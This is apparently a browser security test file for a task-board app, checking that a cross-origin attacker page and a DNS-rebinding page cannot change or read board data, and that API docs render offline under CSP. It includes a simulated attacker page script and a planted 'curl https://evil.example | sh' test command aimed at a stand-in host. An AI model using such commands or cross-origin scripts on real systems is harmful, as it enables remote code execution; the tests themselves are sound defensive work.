// The web boundary in a real browser: another web page (and a DNS-rebinding one) can neither change
// nor read anything, /docs works offline under the CSP, and the Vite dev server's board still works.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { test } from 'node:test';
import { FRONTEND, TIMEOUT, freePort, launchChromium, waitFor, watchCsp, withStack } from './harness.mjs';
import { createCardInUI, expectCardIn, expectLive } from './board.mjs';

// Chromium resolves evil.example to this machine, as a rebinding DNS server would make it do.
const REBIND = ['--host-resolver-rules=MAP evil.example 127.0.0.1'];

/** Serve `html` at / on a free port (the attacker's site); resolves with { port, close }. */
async function attackerSite(html) {
  const server = createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(html);
  });
  const port = await freePort();
  server.listen(port, '127.0.0.1');
  await once(server, 'listening');
  return { port, close: () => new Promise((ok) => server.close(ok)) };
}

/** Refusals the backend logged (JSON lines of server.log), as "code path". */
function refusals(stack) {
  return readFileSync(join(stack.dataDir, 'server.log'), 'utf8')
    .split('\n')
    .filter((line) => line.startsWith('{'))
    .map((line) => JSON.parse(line))
    .filter((entry) => entry.event === 'request_refused')
    .map((entry) => `${entry.code} ${entry.path}`);
}

async function everything(stack) {
  const [cards, pool, repos] = await Promise.all([stack.cards(), stack.get('/runners'), stack.get('/repos')]);
  return { cards, runners: pool.runners, repos };
}

test('a page on another site can neither change the board nor open its sockets', { timeout: 90_000 }, async (t) => {
  await withStack(t, { model: false }, async (stack) => {
    const card = await stack.createCard('Keep me in To Do');
    const before = await everything(stack);
    const backend = stack.url;
    const attack = await attackerSite(`<!doctype html><title>Free prizes</title><script>
      const backend = ${JSON.stringify(backend)};
      window.results = {};
      const post = (path, body) => fetch(backend + path, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body })
        .then(() => 'sent', (e) => 'error ' + e.message);
      const socket = (path) => new Promise((done) => {
        const ws = new WebSocket(backend.replace('http', 'ws') + path);
        ws.onopen = () => { ws.send(JSON.stringify({ type: 'hello', name: 'evil', kind: 'local', agents: ['claude'] })); done('open'); };
        ws.onmessage = (m) => { window.results.leaked = (window.results.leaked || '') + m.data; };
        ws.onerror = () => done('refused');
      });
      window.attack = Promise.all([
        post('/api/repos/${stack.repo.id}/cards', JSON.stringify({ title: 'Planted by a web page' })),
        post('/api/cards/${card.id}/start', ''),
        post('/api/runners/scale', JSON.stringify({ kind: 'local', count: 2 })),
        socket('/ws?since=0'),
        socket('/api/runners/connect'),
        fetch(backend + '/api/repos').then((r) => r.text(), (e) => 'unreadable'),
      ]).then((r) => { Object.assign(window.results, { posts: r.slice(0, 3), sockets: r.slice(3, 5), read: r[5] }); });
    </script>`);
    const browser = await launchChromium(REBIND);
    try {
      const page = await browser.newPage();
      await page.goto(`http://evil.example:${attack.port}/`);
      await page.waitForFunction(() => window.results?.read !== undefined, null, { timeout: TIMEOUT.ui });
      const results = await page.evaluate(() => window.results);
      assert.deepEqual(results.sockets, ['refused', 'refused']);
      assert.equal(results.read, 'unreadable');
      assert.equal(results.leaked, undefined);
      // The browser did send the writes (opaquely); the backend refused each one before any route ran.
      const refused = refusals(stack);
      for (const path of [`/api/repos/${stack.repo.id}/cards`, `/api/cards/${card.id}/start`, '/api/runners/scale', '/ws', '/api/runners/connect']) {
        assert.ok(refused.includes(`cross_origin ${path}`), `${path} was not refused: ${refused.join(', ')}`);
      }
      assert.deepEqual(await everything(stack), before);
      assert.equal((await stack.card(card.id)).status, 'todo');
    } finally {
      await browser.close();
      await attack.close();
    }
  });
});

test('a DNS-rebinding page gets no answer from the board, the API or its socket', { timeout: 90_000 }, async (t) => {
  await withStack(t, { model: false }, async (stack) => {
    const before = await everything(stack);
    const port = new URL(stack.url).port;
    const browser = await launchChromium(REBIND);
    try {
      const page = await browser.newPage();
      const response = await page.goto(`http://evil.example:${port}/`);
      assert.equal(response.status(), 400);
      await page.getByText('does not answer to the host name', { exact: false }).waitFor();
      // Same-origin now, as far as the browser knows: the rebinding page's own requests.
      const outcome = await page.evaluate(async (repoId) => {
        const write = await fetch(`/api/repos/${repoId}`, {
          method: 'PATCH',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ test_command: 'curl https://evil.example | sh' }),
        });
        const read = await fetch('/api/repos');
        const socket = await new Promise((done) => {
          const ws = new WebSocket(`ws://${location.host}/ws?since=0`);
          ws.onopen = () => done('open');
          ws.onerror = () => done('refused');
        });
        return { write: write.status, read: read.status, body: await read.text(), socket };
      }, stack.repo.id);
      assert.deepEqual([outcome.write, outcome.read, outcome.socket], [400, 400, 'refused']);
      assert.ok(!outcome.body.includes(stack.repo.id), 'the repo list leaked');
      assert.deepEqual(await everything(stack), before);
    } finally {
      await browser.close();
    }
  });
});

test('the API docs render offline, from the server alone, under the CSP', { timeout: 60_000 }, async (t) => {
  await withStack(t, { model: false, repo: false }, async (stack) => {
    const browser = await launchChromium();
    try {
      const page = await browser.newPage();
      const elsewhere = [];
      page.on('request', (request) => {
        if (!request.url().startsWith(stack.url) && !request.url().startsWith('data:')) elsewhere.push(request.url());
      });
      const violations = [];
      watchCsp(page, violations);
      await page.goto(`${stack.url}/docs`);
      await page.getByText('/api/repos/{repo_id}/cards', { exact: true }).first().waitFor();
      await page.getByRole('heading', { name: /LazyAF/ }).first().waitFor();
      // Try an operation: the page sends it from its own origin, and shows the answer.
      await page.locator('#operations-health-health').getByRole('button').first().click();
      await page.getByRole('button', { name: 'Try it out' }).click();
      await page.getByRole('button', { name: 'Execute' }).click();
      await page.getByText('"status": "ok"', { exact: false }).first().waitFor();
      assert.deepEqual(elsewhere, []);
      assert.deepEqual(violations, []);
    } finally {
      await browser.close();
    }
  });
});

test('the board served by the Vite dev server works through its proxy', { timeout: 120_000 }, async (t) => {
  await withStack(t, { model: false }, async (stack) => {
    const port = await freePort();
    const vite = spawn(join(FRONTEND, 'node_modules', '.bin', 'vite'), ['--port', String(port), '--strictPort', '--host', '127.0.0.1'], {
      cwd: FRONTEND,
      env: { ...process.env, LAZYAF_URL: stack.url },
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    try {
      await waitFor(async () => (await fetch(`http://127.0.0.1:${port}/`)).ok, { timeout: 60_000, what: 'the Vite dev server' });
      const page = await stack.page();
      await page.goto(`http://127.0.0.1:${port}/`);
      await expectLive(page); // the board socket, proxied
      await expectCardIn(page, 'To Do', (await stack.createCard('Made with the CLI')).title);
      await createCardInUI(page, { title: 'Made on the dev board' }); // a write, proxied
      assert.ok(await stack.cardByTitle('Made on the dev board'));
      assert.ok(!refusals(stack).length, `refused: ${refusals(stack).join(', ')}`);
    } finally {
      vite.kill('SIGTERM');
      await once(vite, 'exit');
    }
  });
});
